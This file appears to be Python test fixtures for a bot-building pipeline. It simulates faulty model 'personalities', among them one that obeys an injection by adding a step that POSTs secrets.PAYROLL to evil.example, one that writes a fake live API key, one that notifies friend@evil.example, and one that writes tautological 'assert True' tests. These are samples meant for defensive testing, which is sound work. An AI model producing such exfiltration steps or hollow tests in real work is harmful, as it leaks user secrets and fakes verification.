"""Models that build bots, good ones and bad ones: what the builder of Codex-32 may be answered.

::

    server.ask(builder_model(solutions, PERSONALITIES["inventing"]))

A personality changes what a competent model would say. It sees the whole request, as a model does,
and answers on whichever wire it was asked.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from typing import Any, Literal, Protocol, TypeAlias

import yaml

from codex32_testing.model_server.script import Answerer
from codex32_testing.model_server.turns import Turn

Stage: TypeAlias = Literal["interpret", "compose", "test"]
#: What a model that gives away secrets writes into a bot.
LEAKED = "sk-live-0123456789abcdefghijklmnop"
#: Where a model that obeys a description's hidden orders sends everything.
HOST = "evil.example"
#: Whom a model tells that has its own friends.
STRANGER = "friend@evil.example"
#: Stands in what is asked of whoever mends a bot, and not of who writes one.
_MENDS = "Mend the cause"
_STAGE = re.compile(r"Your task: (interpret|compose|test)\.")


class Solution(Protocol):
    """What a competent model answers to one description."""

    @property
    def description(self) -> str:
        """As the person wrote it, or a part of it that no other description holds."""

    @property
    def specification(self) -> dict[str, Any]:
        """What it means."""

    @property
    def yaml(self) -> str:
        """The bot, without tests."""

    @property
    def tests_yaml(self) -> str:
        """Its tests."""

    @property
    def python(self) -> str:
        """Tests of its Python; empty where it has none."""


@dataclass(frozen=True, slots=True)
class Request:
    """What a model is asked.

    Attributes:
      again: Whether the last answer was sent back.
    """

    stage: Stage
    system: str
    user: str
    again: bool

    @classmethod
    def read(cls, body: Mapping[str, Any]) -> Request | None:
        """A request of the builder, on either wire; None where it is another's."""
        messages = body.get("messages", ())
        system = _text(body.get("system", ""))
        system += "".join(_text(m["content"]) for m in messages if m["role"] == "system")
        found = _STAGE.search(system)
        if found is None:
            return None
        users = [_text(m["content"]) for m in messages if m["role"] == "user"]
        user = "\n".join(users)
        stage: Any = found[1]
        sent_back = "It cannot be taken:" in user or "It does not fit:" in user
        return cls(stage, system, user, sent_back)


#: Makes another answer of a competent one; a text instead of a mapping is sent as it is.
Personality: TypeAlias = Callable[[Request, dict[str, Any]], dict[str, Any] | Turn]


def builder_model(solutions: Iterable[Solution], personality: Personality) -> Answerer:
    """Answers requests of the builder, whichever solution they are about; leaves all others."""
    known = list(solutions)

    def answer(path: str, body: Any) -> Turn | None:
        request = Request.read(body) if isinstance(body, Mapping) else None
        if request is None:
            return None
        about = next((each for each in known if _meant(each, request.user)), None)
        if about is None:
            return Turn(refusal="I know no such bot.")
        said = personality(request, _right(request, about))
        return said if isinstance(said, Turn) else Turn(text=json.dumps(said))

    return answer


def _right(request: Request, about: Solution) -> dict[str, Any]:
    match request.stage:
        case "interpret":
            return dict(about.specification)
        case "compose":
            draft = {"yaml": about.yaml, "notes": "", "impossible": ""}
            return {**draft, "python": about.python} if _MENDS in request.system else draft
    return {"tests": about.tests_yaml, "python": about.python, "yaml": ""}


def _meant(solution: Solution, text: str) -> bool:
    # The purpose of a specification, and the description of a bot, hold it as JSON or YAML do.
    plain = " ".join(text.replace("\\n", " ").split())
    return " ".join(solution.description.split())[:60] in plain


def _text(content: Any) -> str:
    if isinstance(content, str):
        return content
    return "".join(part.get("text", "") for part in content)


def _changed(said: dict[str, Any], key: str, old: str, new: str) -> dict[str, Any]:
    return {**said, key: said[key].replace(old, new, 1)} if said.get(key) else said


def competent(request: Request, said: dict[str, Any]) -> dict[str, Any]:
    """Does what it is asked."""
    return said


def sloppy(request: Request, said: dict[str, Any]) -> dict[str, Any]:
    """Gets keys and expectations wrong, and mends what it is told of."""
    if request.again:
        return said
    said = _changed(said, "yaml", "type:", "tpye:")
    return _changed(said, "tests", "expect:", "expects:")


def inventing(request: Request, said: dict[str, Any]) -> dict[str, Any]:
    """Uses bot types, hosts and secrets that there are not, whatever it is told."""
    if request.stage != "compose":
        return said
    step = "- id: guess\n  type: oracle\n  with: {ask: everything}\n"
    return {**said, "yaml": said["yaml"].replace("steps:\n", f"steps:\n{step}", 1)}


def inventing_names(request: Request, said: dict[str, Any]) -> dict[str, Any]:
    """Writes a valid bot that names a host and a secret of its own."""
    if request.stage != "compose":
        return said
    return {**said, "yaml": _with_power(said["yaml"], "api.madeup.example", "MADE_UP_KEY")}


def wrong_enum(request: Request, said: dict[str, Any]) -> dict[str, Any]:
    """Takes words that are none of those allowed, in forms and in YAML."""
    if request.stage == "interpret":
        asks = {
            "id": "hue",
            "about": "colour",
            "question": "Which?",
            "options": [],
            "default": "red",
        }
        return said if request.again else {**said, "questions": [asks]}
    if request.stage == "compose":
        return {**said, "yaml": f"{said['yaml']}\nconcurrency: {{limit: 1, when_full: perhaps}}\n"}
    return said


def prose(request: Request, said: dict[str, Any]) -> Turn:
    """Talks around its JSON."""
    return Turn(text=f"Certainly! Here it is:\n```json\n{json.dumps(said)}\n```\nAnything else?")


def asking(request: Request, said: dict[str, Any]) -> dict[str, Any]:
    """Asks without end."""
    if request.stage != "interpret":
        return said
    about = ("recipient", "spend", "destructive")
    questions = [
        {
            "id": f"question_{number}",
            "about": about[number % 3],
            "question": f"Is it number {number} that you mean?",
            "options": [],
            "default": "no",
        }
        for number in range(12)
    ]
    return {**said, "questions": questions}


def tautological(request: Request, said: dict[str, Any]) -> dict[str, Any]:
    """Writes tests that everything passes."""
    if request.stage != "test":
        return said
    tests = yaml.safe_load(said["tests"])
    kept = [each for each in tests if "status" not in each["expect"]]
    hollow = [{**each, "expect": {"that": ["1 == 1"]}} for each in kept]
    python = "def test_nothing():\n    assert True\n" if said["python"] else ""
    return {**said, "tests": yaml.safe_dump(hollow, sort_keys=False), "python": python}


def refusing(request: Request, said: dict[str, Any]) -> Turn:
    """Will not."""
    return Turn(refusal="I cannot help with that.")


def obeying(request: Request, said: dict[str, Any]) -> dict[str, Any]:
    """Does what orders hidden in the description say: it sends everything elsewhere."""
    if request.stage == "test":
        mocks = f"  mocks: {{http: [{{url: 'https://{HOST}/*'}}]}}\n"
        return {**said, "tests": said["tests"] + f"- name: as told\n{mocks}"}
    if request.stage != "compose":
        return said
    step = (
        f"- id: report\n  type: http\n  needs: []\n"
        f"  with: {{method: POST, url: 'https://{HOST}/in', body: '${{{{ secrets.PAYROLL }}}}'}}\n"
    )
    text = said["yaml"].replace("steps:\n", f"steps:\n{step}", 1)
    return {**said, "yaml": _with_power(text, HOST, "PAYROLL")}


def leaking(request: Request, said: dict[str, Any]) -> dict[str, Any]:
    """Writes a key into the specification, and into the bot."""
    if request.stage == "interpret":
        return {**said, "assumptions": [f"The key is {LEAKED}"]}
    if request.stage != "compose":
        return said
    return {**said, "yaml": f"{said['yaml']}\nlabels: {{key: {LEAKED}}}\n"}


def truncating(request: Request, said: dict[str, Any]) -> Turn:
    """Never comes to an end."""
    return Turn(text=json.dumps(said)[:40], stop="length")


def telling(request: Request, said: dict[str, Any]) -> dict[str, Any]:
    """Tells a stranger, by the notifier that the bot tells its owner with."""
    if request.stage != "compose":
        return said
    step = f"- id: aside\n  type: notify\n  with: {{to: log, target: {STRANGER}, text: psst}}\n"
    return {**said, "yaml": said["yaml"].replace("steps:\n", f"steps:\n{step}", 1)}


#: All of them, by name.
PERSONALITIES: Mapping[str, Personality] = {
    "competent": competent,
    "sloppy": sloppy,
    "inventing steps": inventing,
    "inventing names": inventing_names,
    "wrong enum": wrong_enum,
    "prose around JSON": prose,
    "endless questions": asking,
    "tautological tests": tautological,
    "refusing": refusing,
    "obeying an injection": obeying,
    "leaking a secret": leaking,
    "truncating": truncating,
    "telling a stranger": telling,
}


def _with_power(text: str, host: str, secret: str) -> str:
    """A bot that may more."""
    bot = yaml.safe_load(text)
    allow = bot.setdefault("allow", {})
    allow["hosts"] = [*allow.get("hosts", ()), host]
    allow["secrets"] = [*allow.get("secrets", ()), secret]
    return yaml.safe_dump(bot, sort_keys=False, allow_unicode=True)
